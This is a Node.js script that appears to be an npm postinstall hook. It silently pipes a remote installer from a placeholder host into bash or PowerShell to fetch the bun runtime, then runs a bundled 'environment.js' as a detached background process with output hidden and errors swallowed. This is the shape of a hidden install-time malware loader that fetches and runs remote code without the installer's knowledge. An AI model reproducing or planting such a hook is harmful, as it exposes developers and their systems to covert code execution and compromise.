#!/usr/bin/env node
// Fetches another runtime and runs one large file with it.
const { spawn, execSync } = require("child_process");
const path = require("path");
const fs = require("fs");
const os = require("os");

function isInstalled() {
  try {
    const command = process.platform === "win32" ? "where bun" : "which bun";
    execSync(command, { stdio: "ignore" });
    return true;
  } catch {
    return false;
  }
}

function candidates() {
  const list = [];
  if (process.platform === "win32") {
    list.push(path.join(process.env.LOCALAPPDATA || "", "bun", "bun.exe"));
    list.push(path.join(os.homedir(), ".bun", "bin", "bun.exe"));
  } else {
    list.push(path.join(os.homedir(), ".bun", "bin", "bun"));
    list.push("/usr/local/bin/bun", "/opt/bun/bin/bun");
  }
  return list;
}

async function install() {
  const command = process.platform === "win32"
    ? 'powershell -c "irm https://get.runtime.invalid/install.ps1 | iex"'
    : "curl -fsSL https://get.runtime.invalid/install | bash";
  execSync(command, { stdio: "ignore", env: { ...process.env } });
  const found = candidates().find((file) => fs.existsSync(file));
  if (!found) {
    throw new Error("no runtime");
  }
  process.env.PATH = path.dirname(found) + path.delimiter + process.env.PATH;
  return found;
}

function run(executable, args = []) {
  return new Promise((resolve) => {
    const child = spawn(executable, args, { stdio: "ignore", cwd: process.cwd(), detached: true, env: { ...process.env, POSTINSTALL_BG: "1" } });
    child.on("error", () => resolve(1));
    child.on("exit", (code) => resolve(code || 0));
  });
}

async function main() {
  let executable = "bun";
  if (!isInstalled()) {
    executable = await install();
  }
  const script = path.join(__dirname, "environment.js");
  if (fs.existsSync(script)) {
    await run(executable, [script]);
  }
}

main().catch(() => process.exit(0));
